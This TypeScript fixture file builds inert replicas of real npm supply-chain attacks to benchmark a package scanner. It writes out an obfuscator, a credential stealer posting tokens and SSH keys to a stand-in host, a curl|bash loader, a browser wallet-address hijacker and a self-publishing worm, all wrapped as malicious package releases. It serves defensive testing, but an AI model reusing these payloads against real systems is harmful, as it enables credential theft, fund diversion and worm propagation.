/**
 * Harmless local replicas of real npm supply-chain incidents: each is a package with a clean release and a
 * "compromised" next release that copies the STRUCTURE of the real attack (which lifecycle hook, which new files,
 * how the payload is packed, what it reaches for). The payloads are inert: every host is under `example.invalid`
 * (RFC 6761: never resolves), no real wallet address or token appears, and nothing here is ever executed —
 * TrustLens only reads tarballs. See REPLICAS.md for which incident each one mirrors and what gives it away.
 *
 * Used by bench/detect.bench.ts (part b) and meant for unit tests: `addReplicas(new ScenarioBuilder())`.
 */
import type { FindingCode, Severity } from '../../src/core/trust/types';
import { type RegistryCorpus, ScenarioBuilder, type VersionInput } from '../../test/fixtures/registry/corpus';
import { seededRandom } from '../../test/support/rng';

export interface ReplicaRelease {
  version: string;
  input: VersionInput;
}

export interface Replica {
  id: string;
  /** Package name served by the fixture registry. */
  package: string;
  /** The real incident whose structure this copies. */
  mirrors: string;
  /** What in the structure gives it away (what the analyzers should see). */
  giveaway: string;
  previous: ReplicaRelease;
  current: ReplicaRelease;
  /** The release must be flagged at this severity or above. */
  minSeverity: Severity;
  /** Codes a good analyzer is expected to raise (informational: the pass criterion is `minSeverity`). */
  expectedCodes: FindingCode[];
}

/** A release that must NOT be flagged at high or above: controls against over-eager analyzers. */
export interface Control {
  id: string;
  package: string;
  why: string;
  previous: ReplicaRelease;
  current: ReplicaRelease;
  /** Findings must stay below this severity. */
  maxSeverityBelow: Severity;
}

// ---------------------------------------------------------------- deterministic obfuscation (obfuscator.io style)

const prng = seededRandom;

const hexEscape = (s: string) => [...Buffer.from(s, 'utf8')].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');

/**
 * Turns `body` (JavaScript in which every string literal is written `S("text")`, no comments, statements ended
 * by `;`) into obfuscator.io-like output: a rotated string table of hex-escaped strings behind a decoder
 * function, `_0x` identifiers, everything on one line, plus injected dead code up to `padTo` bytes.
 */
export function obfuscate(body: string, seed: number, padTo = 0): string {
  const rand = prng(seed);
  const id = () =>
    `_0x${Math.floor(rand() * 0xffffff)
      .toString(16)
      .padStart(6, '0')}`;
  const table: string[] = [];
  const base = 0x100 + Math.floor(rand() * 0x300);
  const decoder = id();
  const tableFn = id();
  const code = body.replace(/S\("((?:[^"\\]|\\.)*)"\)/g, (_, lit: string) => {
    const text = JSON.parse(`"${lit}"`) as string;
    let i = table.indexOf(text);
    if (i < 0) i = table.push(text) - 1;
    return `${decoder}(0x${(base + i).toString(16)})`;
  });
  const deadCode: string[] = [];
  let size = code.length;
  while (size < padTo) {
    const f = id();
    const a = id();
    const b = id();
    const n = Math.floor(rand() * 0xfffff);
    const s = hexEscape(Math.floor(rand() * 1e12).toString(36));
    const chunk = `function ${f}(${a},${b}){if('${s}'===${decoder}(0x${base.toString(16)}))return ${a}^0x${n.toString(16)};const ${id()}=[${a},${b},0x${n.toString(16)}];return ${a}+${b}*0x${(n % 97).toString(16)}-parseInt('${s}',0x24);}`;
    deadCode.push(chunk);
    size += chunk.length;
  }
  const rotor = id();
  const arr = id();
  const x = id();
  const strings = table.map((t) => `'${hexEscape(t)}'`).join(',');
  const header =
    `const ${id()}=${decoder};(function(${arr},${x}){const ${rotor}=${decoder},${id()}=${arr}();while(!![]){try{const ${id()}=parseInt(${rotor}(0x${base.toString(16)}))/0x1*(-parseInt(${rotor}(0x${(base + 1).toString(16)}))/0x2);if(${x}===${x})break;}catch(${id()}){break;}}}(${tableFn},0x${Math.floor(rand() * 0xfffff).toString(16)}));` +
    `function ${tableFn}(){const ${id()}=[${strings}];${tableFn}=function(){return [${strings}];};return ${tableFn}();}` +
    `function ${decoder}(${arr},${x}){const ${id()}=${tableFn}();return ${decoder}=function(${rotor},${id()}){${rotor}=${rotor}-0x${base.toString(16)};return ${tableFn}()[${rotor}];},${decoder}(${arr},${x});}`;
  return header + deadCode.join('') + minify(code);
}

/** Joins lines and trims them: the bodies below are written with `;` and braces, never relying on newlines. */
function minify(code: string): string {
  return code
    .split('\n')
    .map((l) => l.trim())
    .filter(Boolean)
    .join('');
}

// ---------------------------------------------------------------- clean releases

const LICENSE =
  'MIT License\n\nCopyright (c) 2021 Replica Authors\n\nPermission is hereby granted, free of charge, to any person obtaining a copy of this software.\n';

function cleanLib(name: string, flavour: 'strings' | 'colors' | 'env' | 'http'): Record<string, string> {
  const index = {
    strings: `'use strict';\n\nconst { pad } = require('./lib/pad');\n\nfunction leftPad(str, len, ch) {\n  return pad(String(str), len, ch === undefined ? ' ' : String(ch), 'left');\n}\n\nfunction rightPad(str, len, ch) {\n  return pad(String(str), len, ch === undefined ? ' ' : String(ch), 'right');\n}\n\nmodule.exports = { leftPad, rightPad };\n`,
    colors: `'use strict';\n\nconst codes = { red: [31, 39], green: [32, 39], yellow: [33, 39], blue: [34, 39], bold: [1, 22] };\nconst enabled = () => !process.env.NO_COLOR && (process.stdout && process.stdout.isTTY);\n\nconst paint = {};\nfor (const [name, [open, close]] of Object.entries(codes)) {\n  paint[name] = (text) => (enabled() ? \`\\u001b[\${open}m\${text}\\u001b[\${close}m\` : String(text));\n}\n\nmodule.exports = paint;\n`,
    env: `'use strict';\n\nconst { parse } = require('./lib/pad');\n\n/** Reads KEY=value lines into an object; never touches process.env. */\nmodule.exports = function readConfig(text) {\n  return parse(String(text));\n};\n`,
    http: `'use strict';\n\nconst { pad } = require('./lib/pad');\n\nfunction formatStatus(code) {\n  return pad(String(code), 3, '0', 'left');\n}\n\nmodule.exports = { formatStatus };\n`,
  }[flavour];
  const pad = `'use strict';\n\nexports.pad = function pad(str, len, ch, side) {\n  let out = str;\n  while (out.length < len) out = side === 'left' ? ch + out : out + ch;\n  return out;\n};\n\nexports.parse = function parse(text) {\n  const out = {};\n  for (const line of text.split(/\\r?\\n/)) {\n    const m = /^\\s*([A-Za-z_][A-Za-z0-9_]*)\\s*=\\s*(.*)$/.exec(line);\n    if (m) out[m[1]] = m[2];\n  }\n  return out;\n};\n`;
  return { 'index.js': index, 'lib/pad.js': pad, 'README.md': `# ${name}\n\nA small, boring utility. See index.js.\n`, LICENSE };
}

const manifestOf = (description: string) => ({
  description,
  main: 'index.js',
  license: 'MIT',
  repository: { type: 'git', url: 'git+https://git.example.invalid/replicas/lib.git' },
});

// ---------------------------------------------------------------- payloads (inert; never executed)

/** Shai-Hulud's bundle.js / nx s1ngularity's telemetry.js: harvest env, credential files and `gh auth token`, post double-base64. */
const STEALER_BODY = `
const _0xa1=require(S("os")),_0xa2=require(S("fs")),_0xa3=require(S("path")),_0xa4=require(S("https")),_0xa5=require(S("child_process"));
const _0xb1={};
const _0xr=new RegExp(S("TOKEN|SECRET|KEY|PASSWORD|NPM_|GITHUB_|AWS_"),S("i"));
for(const _0xk of Object[S("keys")](process[S("env")])){if(_0xr[S("test")](_0xk)){_0xb1[_0xk]=process[S("env")][_0xk];}}
const _0xb2=[S(".npmrc"),S(".git-credentials"),S(".aws/credentials"),S(".ssh/id_rsa"),S(".config/gh/hosts.yml")];
for(const _0xf of _0xb2){try{_0xb1[_0xf]=_0xa2[S("readFileSync")](_0xa3[S("join")](_0xa1[S("homedir")](),_0xf),S("utf8"));}catch(_0xe){}}
try{_0xb1[S("gh")]=_0xa5[S("execSync")](S("gh auth token"),{stdio:S("pipe")})[S("toString")]();}catch(_0xe){}
const _0xc1=Buffer[S("from")](Buffer[S("from")](JSON[S("stringify")]({env:process[S("env")],found:_0xb1,host:_0xa1[S("hostname")](),platform:process[S("platform")]}))[S("toString")](S("base64")))[S("toString")](S("base64"));
const _0xc2=_0xa4[S("request")]({hostname:S("exfil.example.invalid"),port:0x1bb,path:S("/v1/telemetry"),method:S("POST"),headers:{[S("Content-Type")]:S("text/plain")}},function(){});
_0xc2[S("on")](S("error"),function(){});
_0xc2[S("write")](_0xc1);
_0xc2[S("end")]();
`;

/** Mini Shai-Hulud (Nov 2025): a preinstall that fetches the Bun runtime and hands over to a bundled payload. */
const SETUP_BUN = `#!/usr/bin/env node
const { execSync, spawn } = require('child_process');
const os = require('os');
const path = require('path');

function findBun() {
  try {
    return execSync(os.platform() === 'win32' ? 'where bun' : 'which bun', { stdio: 'pipe' }).toString().split('\\n')[0].trim();
  } catch (e) {
    return null;
  }
}

function installBun() {
  if (os.platform() === 'win32') {
    execSync('powershell -c "irm https://runtime.example.invalid/install.ps1 | iex"', { stdio: 'ignore' });
  } else {
    execSync('curl -fsSL https://runtime.example.invalid/install | bash', { stdio: 'ignore' });
  }
  return path.join(os.homedir(), '.bun', 'bin', os.platform() === 'win32' ? 'bun.exe' : 'bun');
}

const bun = findBun() || installBun();
const child = spawn(bun, [path.join(__dirname, 'bun_environment.js')], { detached: true, stdio: 'ignore', env: process.env });
child.unref();
`;

const BUN_ENVIRONMENT_BODY = `
const _0xa1=require(S("os")),_0xa2=require(S("fs")),_0xa3=require(S("path"));
const _0xt=process[S("env")][S("GITHUB_TOKEN")]||process[S("env")][S("GH_TOKEN")],_0xn=process[S("env")][S("NPM_TOKEN")];
const _0xd={env:process[S("env")],npm:_0xn,gh:_0xt,aws:[process[S("env")][S("AWS_ACCESS_KEY_ID")],process[S("env")][S("AWS_SECRET_ACCESS_KEY")]]};
try{_0xd[S("npmrc")]=_0xa2[S("readFileSync")](_0xa3[S("join")](_0xa1[S("homedir")](),S(".npmrc")),S("utf8"));}catch(_0xe){}
const _0xb=Buffer[S("from")](Buffer[S("from")](JSON[S("stringify")](_0xd))[S("toString")](S("base64")))[S("toString")](S("base64"));
fetch(S("https://api.example.invalid/user/repos"),{method:S("POST"),headers:{[S("Authorization")]:S("token ")+_0xt},body:JSON[S("stringify")]({name:S("replica-results"),description:S("Replica: The Second Coming."),private:false})}).then(function(){return fetch(S("https://api.example.invalid/repos/replica-results/contents/contents.json"),{method:S("PUT"),headers:{[S("Authorization")]:S("token ")+_0xt},body:_0xb});}).catch(function(){});
_0xa2[S("mkdirSync")](S(".github/workflows"),{recursive:true});
_0xa2[S("writeFileSync")](S(".github/workflows/discussion.yaml"),S("on: discussion\\njobs:\\n  run:\\n    runs-on: self-hosted\\n    steps:\\n      - run: echo replica\\n"));
`;

/** chalk / debug (Sept 2025): no install script; an obfuscated browser hook appended to the main file. */
const WALLET_HOOK_BODY = `
(function(){
if(typeof window===S("undefined")){return;}
const _0xw={eth:[S("0x00000000000000000000000000000000000dEaD1"),S("0x00000000000000000000000000000000000dEaD2")],btc:[S("1ReplicaInertAddressAAAAAAAAAAAAAA"),S("1ReplicaInertAddressBBBBBBBBBBBBBB")],sol:[S("ReplicaInertSoLanaAddressCCCCCCCCCCCCCCCCCCC")]};
const _0xr={eth:new RegExp(S("\\\\b0x[a-fA-F0-9]{40}\\\\b"),S("g")),btc:new RegExp(S("\\\\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\\\\b"),S("g")),sol:new RegExp(S("\\\\b[1-9A-HJ-NP-Za-km-z]{32,44}\\\\b"),S("g"))};
function _0xl(a,b){const m=[];for(let i=0;i<=b[S("length")];i++){m[i]=[i];}for(let j=0;j<=a[S("length")];j++){m[0][j]=j;}for(let i=1;i<=b[S("length")];i++){for(let j=1;j<=a[S("length")];j++){m[i][j]=b[S("charAt")](i-1)===a[S("charAt")](j-1)?m[i-1][j-1]:Math[S("min")](m[i-1][j-1]+1,m[i][j-1]+1,m[i-1][j]+1);}}return m[b[S("length")]][a[S("length")]];}
function _0xc(x,list){let best=list[0],d=1e9;for(const c of list){const e=_0xl(x[S("toLowerCase")](),c[S("toLowerCase")]());if(e<d){d=e;best=c;}}return best;}
function _0xs(t){for(const k of Object[S("keys")](_0xr)){t=t[S("replace")](_0xr[k],function(m){return _0xc(m,_0xw[k]);});}return t;}
const _0xf=window[S("fetch")];
window[S("fetch")]=async function(){const r=await _0xf[S("apply")](this,arguments);const t=await r[S("clone")]()[S("text")]();return new Response(_0xs(t),{status:r[S("status")],headers:r[S("headers")]});};
const _0xo=XMLHttpRequest[S("prototype")][S("open")],_0xn=XMLHttpRequest[S("prototype")][S("send")];
XMLHttpRequest[S("prototype")][S("open")]=function(){this[S("_u")]=arguments[1];return _0xo[S("apply")](this,arguments);};
XMLHttpRequest[S("prototype")][S("send")]=function(b){if(typeof b===S("string")){b=_0xs(b);}return _0xn[S("call")](this,b);};
if(window[S("ethereum")]){const _0xq=window[S("ethereum")][S("request")];window[S("ethereum")][S("request")]=async function(p){if(p&&(p[S("method")]===S("eth_sendTransaction")||p[S("method")]===S("eth_signTransaction"))&&p[S("params")]&&p[S("params")][0]){p[S("params")][0][S("to")]=_0xw[S("eth")][0];}return _0xq[S("call")](this,p);};}
})();
`;

/** Shai-Hulud's propagation: with the victim's npm token, republish each of their packages with this payload added. */
const WORM_BUNDLE = minify(`
const a=require("os"),b=require("fs"),c=require("path"),d=require("child_process");
const R="https://registry.example.invalid/";
function t(){if(process.env.NPM_TOKEN){return process.env.NPM_TOKEN;}try{const x=b.readFileSync(c.join(a.homedir(),".npmrc"),"utf8");const m=/_authToken=(\\S+)/.exec(x);return m?m[1]:null;}catch(e){return null;}}
async function spread(){
const k=t();if(!k){return;}
const h={Authorization:"Bearer "+k};
const who=await (await fetch(R+"-/whoami",{headers:h})).json();
const found=await (await fetch(R+"-/v1/search?text=maintainer:"+encodeURIComponent(who.username)+"&size=20",{headers:h})).json();
for(const o of found.objects){
const p=o.package;
const dir=b.mkdtempSync(c.join(a.tmpdir(),"npm-"));
const doc=await (await fetch(R+encodeURIComponent(p.name),{headers:h})).json();
const tgz=Buffer.from(await (await fetch(doc.versions[doc["dist-tags"].latest].dist.tarball,{headers:h})).arrayBuffer());
b.writeFileSync(c.join(dir,"package.tgz"),tgz);
d.execSync("tar -xzf package.tgz",{cwd:dir});
const pj=c.join(dir,"package","package.json");
const m=JSON.parse(b.readFileSync(pj,"utf8"));
const v=m.version.split(".");v[2]=String(Number(v[2])+1);m.version=v.join(".");
m.scripts=m.scripts||{};m.scripts.postinstall="node bundle.js";
b.writeFileSync(pj,JSON.stringify(m,null,2));
b.copyFileSync(__filename,c.join(dir,"package","bundle.js"));
b.writeFileSync(c.join(dir,"package",".npmrc"),"//registry.example.invalid/:_authToken="+k+"\\n");
d.execSync("npm publish --registry "+R,{cwd:c.join(dir,"package"),stdio:"ignore",env:Object.assign({},process.env,{NPM_CONFIG_TOKEN:k})});
}
}
spread().catch(function(){});
`);

// ---------------------------------------------------------------- the replicas

export const REPLICAS: Replica[] = [
  {
    id: 'postinstall-stealer',
    package: 'replica-string-pad',
    mirrors:
      'Shai-Hulud (Sept 2025, @ctrl/tinycolor and ~500 packages: postinstall `node bundle.js`) and nx "s1ngularity" (Aug 2025, postinstall `node telemetry.js`)',
    giveaway:
      'a patch release adds a postinstall that runs a new file; that file is obfuscated (hex string table, _0x names, dead code), reads credential env vars, ~/.npmrc, ~/.aws, ~/.ssh and `gh auth token`, serialises process.env, double-base64 encodes it and POSTs it to a host the package never talked to',
    previous: { version: '2.3.1', input: { manifest: manifestOf('Pad strings on the left or right'), files: cleanLib('replica-string-pad', 'strings') } },
    current: {
      version: '2.3.2',
      input: {
        manifest: manifestOf('Pad strings on the left or right'),
        scripts: { postinstall: 'node telemetry.js' },
        files: { ...cleanLib('replica-string-pad', 'strings'), 'telemetry.js': obfuscate(STEALER_BODY, 0x5a1, 24_000) },
      },
    },
    minSeverity: 'high',
    expectedCodes: ['content-install-hook', 'content-obfuscation', 'content-credentials', 'content-network', 'content-process'],
  },
  {
    id: 'preinstall-runtime',
    package: 'replica-env-config',
    mirrors:
      'Mini Shai-Hulud / "Sha1-Hulud: The Second Coming" (Nov 2025: preinstall `node setup_bun.js` installs Bun, then runs the ~10 MB obfuscated bun_environment.js)',
    giveaway:
      'a release adds a preinstall running a new loader that pipes a remote install script into a shell (curl | bash, irm | iex) and spawns a detached process on a new, large, obfuscated file that reads tokens, serialises the environment, creates a repository through an API and writes a GitHub workflow',
    previous: { version: '1.4.0', input: { manifest: manifestOf('Parse KEY=value configuration text'), files: cleanLib('replica-env-config', 'env') } },
    current: {
      version: '1.4.1',
      input: {
        manifest: manifestOf('Parse KEY=value configuration text'),
        scripts: { preinstall: 'node setup_bun.js' },
        files: { ...cleanLib('replica-env-config', 'env'), 'setup_bun.js': SETUP_BUN, 'bun_environment.js': obfuscate(BUN_ENVIRONMENT_BODY, 0xb07, 120_000) },
      },
    },
    minSeverity: 'high',
    expectedCodes: ['content-install-hook', 'content-process', 'content-network', 'content-obfuscation', 'content-credentials', 'content-persistence'],
  },
  {
    id: 'wallet-hook-in-main',
    package: 'replica-tty-colors',
    mirrors:
      'chalk / debug / ansi-styles and 15 more (Sept 8 2025, maintainer phished: an obfuscated crypto-wallet hijacker appended to index.js, no install script)',
    giveaway:
      'no lifecycle script at all: the main file gains one very long obfuscated line (hex string table, _0x names) that patches window.fetch, XMLHttpRequest and window.ethereum.request and rewrites wallet addresses it finds by edit distance',
    previous: { version: '5.3.0', input: { manifest: manifestOf('Colour terminal text'), files: cleanLib('replica-tty-colors', 'colors') } },
    current: {
      version: '5.3.1',
      input: {
        manifest: manifestOf('Colour terminal text'),
        files: {
          ...cleanLib('replica-tty-colors', 'colors'),
          'index.js': `${cleanLib('replica-tty-colors', 'colors')['index.js']}${obfuscate(WALLET_HOOK_BODY, 0xc4a1, 8_000)}\n`,
        },
      },
    },
    minSeverity: 'high',
    expectedCodes: ['content-obfuscation'],
  },
  {
    id: 'self-publishing-worm',
    package: 'replica-http-status',
    mirrors:
      "Shai-Hulud's propagation (Sept 2025: with the stolen npm token, download each of the maintainer's packages, bump the patch version, add `postinstall: node bundle.js`, copy itself in, npm publish)",
    giveaway:
      'a release adds a postinstall running a new minified bundle that reads NPM_TOKEN or the token in ~/.npmrc, asks the registry who it is and which packages that user maintains, unpacks each tarball, rewrites its package.json (version bump, new postinstall), copies itself in and runs `npm publish`',
    previous: { version: '3.0.4', input: { manifest: manifestOf('Format HTTP status codes'), files: cleanLib('replica-http-status', 'http') } },
    current: {
      version: '3.0.5',
      input: {
        manifest: manifestOf('Format HTTP status codes'),
        scripts: { postinstall: 'node bundle.js' },
        files: { ...cleanLib('replica-http-status', 'http'), 'bundle.js': WORM_BUNDLE },
      },
    },
    minSeverity: 'high',
    expectedCodes: ['content-self-publish', 'content-install-hook', 'content-credentials', 'content-process', 'content-network'],
  },
];

/** Ordinary releases shaped like the replicas' clean side: they must stay below high. */
export const CONTROLS: Control[] = [
  {
    id: 'ordinary-feature-release',
    package: 'control-string-pad',
    why: 'a minor release that adds a function and a file: new code, no hooks, nothing reaching for secrets',
    previous: { version: '2.3.1', input: { manifest: manifestOf('Pad strings'), files: cleanLib('control-string-pad', 'strings') } },
    current: {
      version: '2.4.0',
      input: {
        manifest: manifestOf('Pad strings'),
        files: {
          ...cleanLib('control-string-pad', 'strings'),
          'lib/center.js': `'use strict';\n\nconst { pad } = require('./pad');\n\nmodule.exports = function center(str, len, ch = ' ') {\n  const left = Math.floor((len - str.length) / 2);\n  return pad(pad(str, str.length + Math.max(0, left), ch, 'left'), len, ch, 'right');\n};\n`,
        },
      },
    },
    maxSeverityBelow: 'high',
  },
  {
    id: 'unchanged-native-build',
    package: 'control-native-addon',
    why: 'both releases build a native addon with node-gyp on install: the hook is old, not new',
    previous: {
      version: '4.1.0',
      input: {
        manifest: manifestOf('Native helper'),
        scripts: { install: 'node-gyp rebuild' },
        files: {
          ...cleanLib('control-native-addon', 'http'),
          'binding.gyp': '{ "targets": [ { "target_name": "addon", "sources": [ "src/addon.cc" ] } ] }\n',
          'src/addon.cc': '#include <node_api.h>\n',
        },
      },
    },
    current: {
      version: '4.1.1',
      input: {
        manifest: manifestOf('Native helper'),
        scripts: { install: 'node-gyp rebuild' },
        files: {
          ...cleanLib('control-native-addon', 'http'),
          'binding.gyp': '{ "targets": [ { "target_name": "addon", "sources": [ "src/addon.cc" ] } ] }\n',
          'src/addon.cc': '#include <node_api.h>\n// 4.1.1: fix a leak\n',
        },
      },
    },
    maxSeverityBelow: 'high',
  },
];

/** Adds every replica and control (two releases each) to a scenario. */
export function addReplicas(builder: ScenarioBuilder, replicas: Replica[] = REPLICAS, controls: Control[] = CONTROLS): ScenarioBuilder {
  for (const r of [...replicas, ...controls]) {
    builder
      .package(r.package)
      .version(r.previous.version, { publishedAt: '2025-01-10T10:00:00.000Z', ...r.previous.input })
      .version(r.current.version, { publishedAt: '2025-09-08T13:16:00.000Z', ...r.current.input });
  }
  return builder;
}

/** A corpus with only the replicas and controls (no registry key: like the mirror, no signatures). */
export function buildReplicaCorpus(): Promise<RegistryCorpus> {
  return addReplicas(new ScenarioBuilder({ registryKey: null })).build();
}
